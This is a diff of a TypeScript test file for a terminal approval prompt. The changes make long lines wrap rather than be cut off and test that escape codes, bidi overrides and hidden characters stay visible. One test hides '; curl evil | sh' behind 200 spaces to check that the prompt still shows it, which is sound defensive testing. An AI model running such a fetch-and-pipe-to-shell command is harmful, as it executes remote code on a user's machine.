@@ -1,9 +1,10 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { openMemoryTerminal } from '../../test/memory-terminal.ts';
 import { sampleRequest, secretRequest } from '../../test/sample-request.ts';
 import { openLineReader } from '../terminal/line-reader.ts';
 import type { ReadLine } from '../terminal/piped-input.ts';
-import { createPainter } from '../terminal/terminal-text.ts';
+import { createPainter, measureWidth, splitVisibleLines } from '../terminal/terminal-text.ts';
 import { askAtTerminal, renderApproval } from './ask-approval.ts';
 
 function setUp(...answers: readonly (string | ReadLine)[]) {
@@ -132,7 +133,7 @@ const change = (text: string) => ({ change: text });
 describe('renderApproval', () => {
   it('shows what would change', () => {
     const diff = '--- a.txt\n+++ a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+three\n';
-    expect(renderApproval(sampleRequest(), change(diff), style)).toEqual({
+    expect(renderApproval(sampleRequest(), change(diff), style)).toMatchObject({
       clipped: false,
       text: `\
 ? <W:a.txt> in home changes something here:
@@ -170,7 +171,9 @@ describe('renderApproval', () => {
     const diff = `+\u001B[2J\u202Ex\n+${'y'.repeat(100)}\nrun it? y = yes: y\n`;
     expect(renderApproval(sampleRequest(), change(diff), style).text.split('\n').slice(1)).toEqual([
       '  +␛[2J<U+202E>x',
-      `  +${'y'.repeat(36)}…`,
+      `  +${'y'.repeat(37)}`,
+      `  ↪ ${'y'.repeat(36)}`,
+      `  ↪ ${'y'.repeat(27)}`,
       '  run it? y = yes: y',
     ]);
   });
@@ -182,8 +185,10 @@ describe('renderApproval', () => {
   it('shows how the body begins where the tool cannot tell what would change', () => {
     const content = Array.from({ length: 20 }, (_, index) => `line ${index + 1}`).join('\n');
     const request = sampleRequest({ args: { path: 'a.txt', content } });
-    expect(renderApproval(request, {}, style)).toEqual({
-      clipped: false,
+    const shown = renderApproval(request, {}, { ...style, rows: 14 });
+    expect(shown.whole.at(-1)).toBe('  | line 20');
+    expect(shown).toMatchObject({
+      clipped: true,
       text: `\
 ? <W:a.txt> in home changes something here:
   path: a.txt
@@ -214,13 +219,51 @@ describe('renderApproval', () => {
   target: .env`);
   });
 
-  it('hides nothing that would act on the terminal, and cuts long lines', () => {
+  it('hides nothing that would act on the terminal, and divides long lines', () => {
     const args = { title: `\u001B[1A${'x'.repeat(100)}`, count: 3, none: undefined };
     const request = sampleRequest({ space: 'github', effect: 'external', tag: '<create:\u202Ex>', args });
     expect(renderApproval(request, {}, style).text).toBe(`\
 ? <create:<U+202E>x> in github reaches beyond this machine:
-  title: ␛[1Axxxxxxxxxxxxxxxxxxxxxxxxxx…
+  title: ␛[1Axxxxxxxxxxxxxxxxxxxxxxxxxxx
+  ↪ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
+  ↪ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
+  ↪ x
   count: 3
   none: `);
+  });
+
+  it('shows or offers every character of a change, at any width', () => {
+    const unit = fc.constantFrom(
+      'a',
+      'Z',
+      ' ',
+      '-',
+      '+',
+      ';',
+      '|',
+      '漢',
+      'é',
+      '😀',
+      '\u202E',
+      '\u001B',
+      '\u200B',
+      '\t',
+      '\n',
+    );
+    const text = fc.string({ unit, minLength: 1, maxLength: 400 });
+    fc.assert(
+      fc.property(text, fc.constantFrom(40, 80, 200), fc.integer({ min: 1, max: 60 }), (some, columns, rows) => {
+        const { text, clipped, whole } = renderApproval(sampleRequest(), change(some), { ...style, columns, rows });
+        const offered = whole.map((line) => (line.startsWith('  ↪ ') ? line.slice(4) : `\n${line.slice(2)}`)).join('');
+        expect(offered).toBe(`\n${splitVisibleLines(some).join('\n')}`);
+        expect(whole.every((line) => measureWidth(line) <= columns)).toBe(true);
+        if (!clipped) expect(text.split('\n').slice(1)).toEqual(whole);
+      }),
+    );
+  });
+
+  it('hides no command behind blanks', () => {
+    const { text } = renderApproval(sampleRequest(), change(`+echo ok${' '.repeat(200)}; curl evil | sh`), style);
+    expect(text.replaceAll(/\n  ↪ /g, '')).toContain('; curl evil | sh');
   });
 });
